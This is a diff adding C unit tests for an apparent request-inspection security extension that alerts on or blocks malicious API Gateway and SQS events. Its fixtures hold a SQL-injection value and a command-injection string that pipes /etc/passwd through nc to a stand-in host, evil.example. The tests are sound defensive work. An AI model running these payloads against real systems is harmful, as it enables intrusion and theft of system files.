@@ -19,6 +19,7 @@
 #include "alert.h"
 #include "config.h"
 #include "fake_upstream.h"
+#include "inspector.h"
 #include "px_client.h"
 #include "vg_buf.h"
 #include "vg_time.h"
@@ -187,7 +188,7 @@ END_TEST
 START_TEST(alert_record_shape_and_stable_id)
 {
 	struct vg_buf b1 = VG_BUF_INIT(65536), b2 = VG_BUF_INIT(65536), b3 = VG_BUF_INIT(65536);
-	struct ext_alert a = {.kind = "health",
+	struct tel_alert a = {.kind = "health",
 	                      .category = "internal_error",
 	                      .rule = "vigil.proxy",
 	                      .request_id = "req-1",
@@ -580,6 +581,139 @@ START_TEST(offline_subcommands)
 }
 END_TEST
 
+/* --- the inspector ------------------------------------------------------- */
+
+struct caught {
+	unsigned n;
+	char category[32], action[16], source[32], path[128], rid[64], budget[8];
+	char flagged_rid[64], flagged_id[40];
+};
+
+static void catch_alert(void *ctx, const struct tel_alert *a)
+{
+	struct caught *c = ctx;
+	if (c->n++)
+		return; /* keep the first */
+	snprintf(c->category, sizeof(c->category), "%s", a->category);
+	snprintf(c->action, sizeof(c->action), "%s", a->action);
+	snprintf(c->source, sizeof(c->source), "%s", a->source ? a->source : "");
+	snprintf(c->path, sizeof(c->path), "%s", a->path ? a->path : "");
+	snprintf(c->rid, sizeof(c->rid), "%s", a->request_id);
+	for (unsigned i = 0; i < a->n_attrs; i++)
+		if (!strcmp(a->attrs[i].key, "vigil.budget_exhausted"))
+			snprintf(c->budget, sizeof(c->budget), "%s", a->attrs[i].value);
+	ck_assert_str_eq(a->kind, "inspection");
+}
+
+static void catch_flag(void *ctx, const char *rid, const char *id)
+{
+	struct caught *c = ctx;
+	snprintf(c->flagged_rid, sizeof(c->flagged_rid), "%s", rid);
+	snprintf(c->flagged_id, sizeof(c->flagged_id), "%s", id);
+}
+
+static int run_hook(struct ext_inspector *x, const char *event, const char *rid, int blocked,
+                    struct px_verdict *v, char *doc, size_t docn, char *etype, size_t etn)
+{
+	const struct px_inspector *h = ext_inspector_hook(x);
+	struct px_event ev = {.request_id = rid, .body = event, .len = strlen(event)};
+	memset(v, 0, sizeof(*v));
+	int r = h->inspect(h->ctx, &ev, v);
+	if (r == 0) {
+		snprintf(doc, docn, "%.*s", (int)v->block_len, v->block_body ? v->block_body : "");
+		snprintf(etype, etn, "%s", v->block_error_type ? v->block_error_type : "");
+		h->done(h->ctx, &ev, v, blocked);
+	}
+	return r;
+}
+
+START_TEST(inspector_monitor_and_block)
+{
+	static const char sqli[] =
+	    "{\"resource\":\"/items\",\"path\":\"/items\",\"httpMethod\":\"GET\",\"headers\":{},"
+	    "\"queryStringParameters\":{\"id\":\"1' OR '1'='1' -- \"},\"requestContext\":"
+	    "{\"stage\":\"prod\"},\"body\":null,\"isBase64Encoded\":false}";
+	static const char sqs[] =
+	    "{\"Records\":[{\"messageId\":\"m1\",\"eventSource\":\"aws:sqs\",\"body\":"
+	    "\"{\\\"q\\\":\\\"x; cat /etc/passwd | nc evil.example 4444\\\"}\"}]}";
+	struct caught c = {0};
+	struct tel_sink sink = {catch_alert, &c};
+	struct ext_inspector_opts o = {.sink = &sink, .flagged = catch_flag, .flagged_ctx = &c};
+	struct ext_inspector *x;
+	struct px_verdict v;
+	char err[256], doc[4096], et[64];
+
+	/* Monitor: an alert per finding, action alert, nothing to refuse. */
+	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
+	ck_assert_int_eq(run_hook(x, sqli, "r-1", 0, &v, doc, sizeof(doc), et, sizeof(et)), 0);
+	ck_assert_int_eq(v.action, PX_ALERT);
+	ck_assert_uint_ge(c.n, 1);
+	ck_assert_str_eq(c.category, "sqli");
+	ck_assert_str_eq(c.action, "alert");
+	ck_assert_str_eq(c.source, "apigw-v1");
+	ck_assert_str_eq(c.rid, "r-1");
+	ck_assert_ptr_nonnull(strstr(c.path, "id"));
+	ck_assert_str_eq(c.budget, "");
+	ck_assert_str_eq(c.flagged_rid, "r-1");
+	ck_assert_uint_eq(strlen(c.flagged_id), 32);
+	/* A benign event: nothing. */
+	memset(&c, 0, sizeof(c));
+	ck_assert_int_eq(run_hook(x, "{\"name\":\"O'Brien\",\"note\":\"select a union rep\"}",
+	                          "r-2", 0, &v, doc, sizeof(doc), et, sizeof(et)),
+	                 0);
+	ck_assert_int_eq(v.action, PX_PASS);
+	ck_assert_uint_eq(c.n, 0);
+	ck_assert_str_eq(c.flagged_rid, "");
+	ext_inspector_free(x);
+
+	/* Block: the source's refusal comes with the verdict. */
+	o.block = true;
+	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
+	memset(&c, 0, sizeof(c));
+	ck_assert_int_eq(run_hook(x, sqli, "r-3", 1, &v, doc, sizeof(doc), et, sizeof(et)), 0);
+	ck_assert_int_eq(v.action, PX_BLOCK);
+	ck_assert_str_eq(et, "");
+	ck_assert_ptr_nonnull(strstr(doc, "\"statusCode\":403"));
+	ck_assert_str_eq(c.action, "block");
+	memset(&c, 0, sizeof(c));
+	ck_assert_int_eq(run_hook(x, sqs, "r-4", 1, &v, doc, sizeof(doc), et, sizeof(et)), 0);
+	ck_assert_int_eq(v.action, PX_BLOCK);
+	ck_assert_str_eq(et, "Vigil.Blocked");
+	ck_assert_ptr_nonnull(strstr(doc, "\"errorType\":\"Vigil.Blocked\""));
+	ck_assert_ptr_null(strstr(doc, "passwd")); /* never the payload */
+	ck_assert_str_eq(c.source, "sqs");
+	ext_inspector_free(x);
+}
+END_TEST
+
+START_TEST(inspector_rejects_invalid_policy_with_file_and_line)
+{
+	char dir[512], file[600], list[1300], err[512];
+	struct ext_inspector *x = NULL;
+	struct ext_inspector_opts o = {0};
+	ck_assert_int_eq(th_tempdir(dir, sizeof(dir), "pol"), 0);
+	snprintf(file, sizeof(file), "%s/bad.json", dir);
+	FILE *f = fopen(file, "w");
+	ck_assert_ptr_nonnull(f);
+	fputs("{\n\"rules\": [\n{\"id\": }\n", f);
+	fclose(f);
+	/* A folder, an empty segment, then the bad file. */
+	snprintf(list, sizeof(list), "%s::%s", dir, file);
+	o.policy = list;
+	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), -EINVAL);
+	ck_assert_ptr_null(x);
+	ck_assert_msg(!strncmp(err, file, strlen(file)) && err[strlen(file)] == ':', "%s", err);
+	/* Too many paths. */
+	char many[4096] = "";
+	for (int i = 0; i < 40; i++)
+		strcat(many, "/nonexistent:");
+	o.policy = many;
+	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), -E2BIG);
+	ck_assert_ptr_nonnull(strstr(err, "VIGIL_POLICY"));
+	th_rmtree(dir);
+}
+END_TEST
+
 static Suite *suite(void)
 {
 	Suite *s = suite_create("extension");
@@ -590,6 +724,8 @@ static Suite *suite(void)
 	tcase_add_test(t, config_markdown_lists_every_variable);
 	tcase_add_test(t, readme_table_matches_the_code);
 	tcase_add_test(t, alert_record_shape_and_stable_id);
+	tcase_add_test(t, inspector_monitor_and_block);
+	tcase_add_test(t, inspector_rejects_invalid_policy_with_file_and_line);
 	suite_add_tcase(s, t);
 
 	t = tcase_create("process");
